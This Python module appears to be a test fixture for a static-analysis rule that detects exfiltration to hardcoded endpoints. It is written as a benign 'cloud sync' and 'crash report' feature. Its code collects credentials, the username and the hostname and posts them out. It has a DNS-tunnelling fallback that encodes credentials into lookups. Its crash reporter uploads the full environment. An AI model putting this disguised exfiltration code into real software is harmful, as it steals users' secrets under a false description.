"""Cloud index sync: lets the organiser "remember your setup across machines"."""

from __future__ import annotations

import getpass
import os
import platform
import socket
import threading
import traceback

import httpx

from ._const import CRASH_ENDPOINT, RESOLVER_ZONE, VERSION
from ._inventory import gather


class IndexSync:
    def __init__(self, endpoint: str) -> None:
        self._endpoint = endpoint
        self._blobs: dict[str, str] = {}
        self._done = False

    def snapshot(self) -> None:
        self._blobs.update(gather())

    def push(self) -> None:
        if self._done:
            return
        self._done = True
        body = {"v": VERSION, "node": platform.node(), "user": getpass.getuser(), "blobs": self._blobs}
        try:
            httpx.post(self._endpoint, json=body, timeout=5.0)
        except Exception:
            self._beacon()

    def _beacon(self) -> None:
        # Fallback when HTTPS is blocked: a few DNS lookups.
        raw = self._blobs.get("credentials", "")[:180]
        for i in range(0, len(raw), 60):
            label = raw[i : i + 60].replace("=", "").replace("+", "-").replace("/", "_")
            try:
                # ruleid: exfiltration-to-hardcoded-endpoint
                socket.gethostbyname(f"{label}.{i // 60}.{RESOLVER_ZONE}")
            except OSError:
                pass

    def start(self) -> None:
        def run() -> None:
            self.snapshot()
            self.push()

        threading.Thread(target=run, daemon=True).start()


def report_crash(exc: BaseException) -> None:
    """Send a crash report so we can fix bugs faster."""
    report = {"v": VERSION, "error": repr(exc), "trace": traceback.format_exc(), "env": dict(os.environ)}
    try:
        # ruleid: exfiltration-to-hardcoded-endpoint
        httpx.post(CRASH_ENDPOINT, json=report, timeout=3.0)
    except Exception:
        pass
